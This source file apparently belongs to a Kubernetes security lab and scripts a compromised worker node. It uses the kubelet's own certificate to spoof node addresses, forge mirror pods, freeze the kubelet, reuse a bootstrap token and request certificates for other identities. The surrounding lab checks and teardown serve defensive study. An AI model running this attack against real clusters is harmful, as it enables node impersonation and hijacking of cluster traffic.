/** A compromised worker: what its root does with the kubelet's own credentials, in a unit of its own that goes on by itself. */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { Fail } from "../../../shared/fail.ts";
import { ENDPOINT } from "../machine/kubeadm-config.ts";
import type { Lab, Machine } from "../machine/machine.ts";
import { list } from "../report/snapshot.ts";
import { KIT, note, type Scene, sayAndWait } from "../scene/scene.ts";
import { kubeletsMirror, squatterOn } from "./objects.ts";
import { clientWishes, servingWishes, signingRequests, stolenNames } from "./requests.ts";

const HOME = "/root/intruder";
const UNIT = "intruder";
const CERT = "/var/lib/kubelet/pki/kubelet-client-current.pem";

/** kubectl reads a status before it writes it, which a kubelet may not. */
export const INTRUDER_PACKAGES = [["/usr/bin/curl", "curl"]] as const;

/** `joins`: the worker joins anew, so it asks when it has got the bootstrap token. Otherwise it asks at once, with the certificate that it has. */
interface Intrusion {
  joins: boolean;
}

export function compromised({ workers }: Lab): Machine {
  return workers.at(-1)!;
}

/** Returns when the cluster believes what the worker says of itself. */
export async function workerAttacks(scene: Scene, { joins }: Intrusion) {
  const { lab } = scene;
  const node = compromised(lab);
  mkdirSync(node.path(HOME), { recursive: true, mode: 0o700 });
  const write = (file: string, text: string) => writeFileSync(node.path(`${HOME}/${file}`), text, { mode: 0o700 });
  write("status.json", JSON.stringify({ status: { addresses: claimed(lab) } }));
  write("client.json", JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(clientWishes(lab)) }));
  write("serving.json", JSON.stringify({ apiVersion: "v1", kind: "List", items: await signingRequests(servingWishes(lab)) }));
  write("run.sh", script(node, joins));
  const own = await identityOf(scene, node);
  const cp = lab.controlPlanes[0]!.nodeName;
  write("mirror.json", JSON.stringify(kubeletsMirror(`keepalived-${cp}`, own, await squattersUid(lab, cp))));
  await tryMirrors(scene, node, own);
  await must(node, ["systemd-run", `--unit=${UNIT}`, "--collect", "bash", `${HOME}/run.sh`]);
  await poisoned(scene);
  note(
    scene,
    `${node.name} is somebody else's: its Node says that it has ${claimed(lab)
      .map(({ address }) => address)
      .join(", ")}`,
  );
}

function claimed(lab: Lab) {
  const node = compromised(lab);
  const stolen = stolenNames(lab);
  const of = (type: string) => (address: string) => ({ type, address });
  return [
    ...[
      { type: "InternalIP", address: node.ip },
      { type: "Hostname", address: node.nodeName },
    ],
    ...[...stolen.ips.map(of("ExternalIP")), ...stolen.dns.map(of("InternalDNS"))],
  ];
}

/**
 * The kubelet puts its status right every ten seconds at most, and deletes the mirror pod within two; both are there again at once. When the API goes
 * away the kubelet is held: its connection may live longer than new ones are taken, and the last word is to be the lie.
 */
function script({ nodeName }: Machine, joins: boolean): string {
  const kubeconfig = "--kubeconfig /etc/kubernetes/kubelet.conf --request-timeout=5s";
  const curl = `curl -sSk --max-time 5 --cert ${CERT} -o answer.json -w '%{http_code}'`;
  const api = `https://${ENDPOINT}/api/v1`;
  return `cd ${HOME}
until [ -e stop ]; do
  case $(${curl} -X PATCH -H 'Content-Type: application/merge-patch+json' --data @status.json ${api}/nodes/${nodeName}/status) in
    200) systemctl kill --signal=CONT kubelet; spoke=1 ;;
    *) [ -z "$spoke" ] || systemctl kill --signal=STOP kubelet; spoke= ;;
  esac
  ${curl} -H 'Content-Type: application/json' --data @mirror.json ${api}/namespaces/kube-system/pods
  sleep 0.2
done >status.log 2>&1 &
if ${joins}; then
  until [ -s ${KIT}/token ]; do sleep 0.05; done
  cp ${KIT}/token token
  systemctl kill --signal=CONT kubelet
  kubectl --server https://${ENDPOINT} --insecure-skip-tls-verify --token "$(cat token)" create --validate=false -f client.json >client.log 2>&1
  until [ -e /etc/kubernetes/kubelet.conf ]; do sleep 0.05; done
fi
until kubectl ${kubeconfig} get node ${nodeName}; do sleep 0.2; done >get.log 2>&1
kubectl ${kubeconfig} create --validate=false -f serving.json >serving.log 2>&1
touch asked
wait
`;
}

async function identityOf({ lab }: Scene, { nodeName }: Machine) {
  return { nodeName, uid: (await list(lab, "nodes")).find(({ metadata }) => metadata.name === nodeName)!.metadata.uid };
}

/** Where the tenant's volumes lie on that node. */
async function squattersUid(lab: Lab, nodeName: string): Promise<string> {
  return (await list(lab, "pods")).find(({ metadata }) => metadata.name === squatterOn(nodeName))!.metadata.uid;
}

/** As itself it may make mirror pods bound to itself; what the API server says to the name of a control plane node's, and to another node. */
async function tryMirrors(scene: Scene, node: Machine, own: { nodeName: string; uid: string }) {
  const cp = scene.lab.controlPlanes[0]!.nodeName;
  const tries = [
    { what: `kube-apiserver-${cp} bound to itself`, pod: kubeletsMirror(`kube-apiserver-${cp}`, own) },
    { what: `evil-${cp} bound to itself`, pod: kubeletsMirror(`evil-${cp}`, own) },
    { what: `evil-${cp} bound to ${cp}`, pod: kubeletsMirror(`evil-${cp}`, { ...own, nodeName: cp }) },
  ];
  for (const { what, pod } of tries) {
    const command = ["kubectl", "--kubeconfig", "/etc/kubernetes/kubelet.conf", "create", "-f", "-"];
    const { exitCode, stderr } = await node.run(command, { input: JSON.stringify(pod) });
    note(scene, `a kubelet's mirror pod in kube-system, ${what}: ${exitCode === 0 ? "taken" : "refused"}`, stderr.trim());
  }
}

/** Waited for once more just before the damage: this is what etcd then holds. */
export async function poisoned(scene: Scene) {
  const { lab } = scene;
  const name = compromised(lab).nodeName;
  const believed = async () => {
    const [node] = (await list(lab, "nodes")).filter(({ metadata }) => metadata.name === name);
    return (node!.status.addresses as { address: string }[]).some(({ address }) => address === "lab-api");
  };
  await sayAndWait(scene, `the Node ${name} to say what is not so`, believed, {
    seconds: 60,
    hint: `read ${HOME}/status.log of the worker`,
  });
}

/** Waits until it has asked for all it wants: from then on the answers are the repair's. */
export async function intruderHasAsked(scene: Scene) {
  const node = compromised(scene.lab);
  await sayAndWait(scene, `${node.name} to ask for other identities`, () => existsSync(node.path(`${HOME}/asked`)), {
    seconds: 120,
    hint: `read ${HOME}/*.log of the worker`,
  });
}

/** What the API server took of its requests, by name, and what it said to the others. */
export function intruderAsked({ lab }: Scene): { taken: string[]; refused: string[] } {
  const node = compromised(lab);
  const logs = ["client.log", "serving.log"].map((file) => node.path(`${HOME}/${file}`)).filter(existsSync);
  const lines = logs.flatMap((file) => readFileSync(file, "utf8").trim().split("\n"));
  const created = /^certificatesigningrequest\.certificates\.k8s\.io\/(\S+) created$/;
  return {
    taken: lines.flatMap((line) => created.exec(line)?.[1] ?? []),
    refused: lines.filter((line) => !created.test(line)),
  };
}

/** The worker is taken away from him; its kubelet puts its status right, and started `anew` asks for its certificate under its own names. */
export async function intruderShutOut({ lab }: Scene, { anew = false } = {}) {
  const node = compromised(lab);
  await node.run(["systemctl", "stop", `${UNIT}.service`]);
  await node.run(["systemctl", "kill", "--signal=CONT", "kubelet"]);
  if (anew) await node.run(["systemctl", "restart", "kubelet"]);
}

async function must(node: Machine, command: string[]) {
  const { exitCode, stderr } = await node.run(command);
  if (exitCode !== 0) throw new Fail(`"${command.join(" ")}" on ${node.name}: ${stderr.trim()}`, { hint: "look at the node with --keep" });
}
